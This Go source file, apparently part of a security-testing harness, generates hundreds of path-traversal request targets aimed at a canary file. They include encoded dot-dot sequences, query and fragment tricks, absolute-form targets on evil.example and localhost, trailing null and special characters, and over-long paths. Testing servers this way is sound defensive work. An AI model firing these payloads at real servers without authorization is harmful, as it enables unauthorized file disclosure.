package attack

import (
	"fmt"
	"strings"
)

// targets adds what only a request-target, or a length, can say.
func (b *builder) targets() {
	b.queries()
	b.targetForms()
	b.aliases()
	b.trailing()
	b.lengths()
}

func (b *builder) queries() {
	up, file := b.nearest(), b.layout.File
	b.list("query-fragment", "up",
		file+"?/../"+up, file+"#/../"+up, file+"%23/../"+up, file+"%3f/../"+up, file+"?/..%2f"+up, "#/"+up, "?/"+up, "#/../"+up,
		"?/../"+up, "%23/../"+up, "%3f/../"+up, "%23/..%2f"+up, up+"?x", up+"#x", up+"?/"+file, up+"#/"+file, up+"%3f", up+"%23",
		up+"?.txt", up+"#.txt", "..?/"+up[3:], "..#/"+up[3:], "?file="+up, "?"+up, "#"+up, file+"?file="+up, up+"?raw??",
		"public/plugins/x/#/../../../../"+up, "public/plugins/x/../../../../"+up)
	for i, h := range b.layout.Hidden() {
		n := h.Name
		b.list("query-fragment", fmt.Sprintf("hidden%d", i),
			n+"?", n+"??", n+"?raw", n+"?raw??", n+"?import&raw", n+"?import&raw??", n+"?import&raw?", n+"?.svg?.wasm?init", n+"?inline&.css",
			n+"#", n+"#x", n+"#.txt", n+"?.txt", n+"?a=b", n+"%3f", n+"%3fraw", n+"%3f.txt", n+"%23", n+"%23.txt", n+"#/../"+b.layout.File,
			n+"?/../"+b.layout.File, n+"%23/../"+b.layout.File, n+"?/"+b.layout.File, n+"#?", n+"?#")
	}
}

// targetForms adds targets that do not start with a slash, RFC 9112 section 3.2, and some that no RFC knows.
func (b *builder) targetForms() {
	up := b.nearest()
	enc := "%2e%2e" + up[2:]
	forms := []string{
		"http://evil.example/" + up, "http://evil.example/" + enc, "http://evil.example/..%2f" + up[3:], "HTTP://evil.example/" + up,
		"https://evil.example/" + up, "http://evil.example:80/" + up, "http://u:p@evil.example/" + up, "http:///" + up, "http:/" + up,
		"http:" + up, "http://127.0.0.1/" + up, "http://[::1]/" + up, "http://localhost/" + up, "http://evil.example//" + up,
		"http://evil.example/ok.txt/../" + up, "http://evil.example/sub/../" + up, "http://evil.example?/../" + up, "http://evil.example#/" + up,
		"http://evil.example\\" + up, "ftp://evil.example/" + up, "file:///" + up, "javascript:/" + up, "http://" + up, "://" + up, ":/" + up,
		"*", "*/" + up, "*/../" + up, "evil.example:80", "evil.example:443/" + up, "evil.example", "127.0.0.1:1", ":80",
		up, enc, "..%2f" + up[3:], "%2f" + up, `\` + up, `..\` + up[3:], ".", "..", "%2e%2e", "./" + up, "?", "?file=" + up, "#/" + up,
	}
	for i, f := range forms {
		b.addTarget("target-form", fmt.Sprint(i), f, f)
	}
	for i, h := range b.layout.Hidden() {
		for j, f := range []string{"http://evil.example/", "http://evil.example//", "HTTP://evil.example/./", "*/", "./", ""} {
			b.addTarget("target-form", fmt.Sprintf("hidden%d.%d", i, j), f+h.Name, f+h.Name)
		}
	}
}

// aliases adds a first element that runs into the climb: "/static../canary.txt".
func (b *builder) aliases() {
	up := b.nearest()
	for _, seg := range []string{b.layout.Dir, b.layout.baseName(), "static", "assets", "files", "media", "images", "img", "js", "css", "download", "public", "-"} {
		if seg == "" {
			continue
		}
		b.list("alias", seg, seg+up, seg+"%2e%2e"+up[2:], seg+"..%2f"+up[3:], seg+"."+up, seg+"/../"+seg+up, seg+";"+up, seg+"../"+seg+"/"+up,
			seg+"..//"+up[3:], seg+"..%5c"+up[3:], seg+".../"+up)
		for _, c := range b.layout.Outside() {
			if dir, ok := strings.CutPrefix(c.Name, "../"+b.layout.baseName()); ok && b.layout.baseName() != "" {
				b.list("alias", seg+".sibling", seg+dir, seg+".."+c.Name[2:])
			}
		}
	}
}

func (b *builder) trailing() {
	tails := []string{
		"/", "//", "/.", "/./", "/..", "/../", "/x/..", "/../" + canaryName, "/.//", "%2f", "%2f.", "%2f..", `\`, "%5c", "%5c.", "/%2e", "/%2e%2e",
		".", "..", "...", "%20", "%20.", ".%20", "%20/", "./", "+", "%2e", "%09", "%0b", "%a0", "%c2%a0", "%e3%80%80", "%3b", ";", ";x", ";/", "~", ".bak",
		".gz", ".br", ".zst", "%00", "%ff", ":", "::$DATA", "?", "#", "*", "%2a", "<", ">", "%22", "|",
	}
	for i, t := range tails {
		tag := fmt.Sprint(i)
		b.list("trailing", tag, b.nearest()+t, strings.ReplaceAll(b.nearest(), "/", "%2f")+t, ".."+t+"/"+b.nearest()[3:])
		if b.layout.File != "" {
			b.list("trailing", tag+".file", b.layout.File+t, b.layout.File+t+"/../"+b.nearest())
		}
		for j, h := range b.layout.Hidden() {
			b.add("trailing", id(tag, fmt.Sprintf("hidden%d", j)), h.Name+t)
		}
	}
	b.list("trailing", "base", "..", "../", "../.", "../..", "%2e%2e", "%2e%2e/", "..%2f", "sub/../..", "./..", ".", "./", "/", "//", "%2f", "..;/", "..%00", ".%2f..")
}

// lengths are those where systems and buffers end: NAME_MAX, PATH_MAX, and a 16 bit counter.
func (b *builder) lengths() {
	up := b.nearest()
	for _, n := range []int{254, 255, 256, 1023, 1024, 4095, 4096, 4097, 8192, 65535, 70000} {
		a := strings.Repeat("A", n)
		tag := fmt.Sprint(n)
		b.list("length", tag, a, a+".txt", a+"/../"+up, b.layout.Dir+"/"+a+"/../../"+up, strings.Repeat("%41", n/3)+"/../"+up, strings.Repeat("\u00e9", n/2))
		b.list("length", tag+".pad", strings.Repeat("/", n)+up, strings.Repeat("./", n/2)+up, up+strings.Repeat("/.", n/2), up+strings.Repeat("/", n))
	}
	for _, n := range []int{40, 41, 255, 256, 1000, 5000} {
		tag := fmt.Sprintf("deep%d", n)
		b.list("length", tag, strings.Repeat("a/", n)+"x", strings.Repeat("a/", n)+strings.Repeat("../", n)+up,
			strings.Repeat(b.layout.Dir+"/../", n)+up, strings.Repeat("../", n), strings.Repeat("%2e%2e/", n)+"x")
		for _, c := range b.layout.Outside()[:min(1, len(b.layout.Outside()))] {
			if abs := b.layout.Abs(c); abs != "" {
				b.add("length", tag+".root", strings.Repeat("../", n)+abs[1:])
			}
		}
	}
}
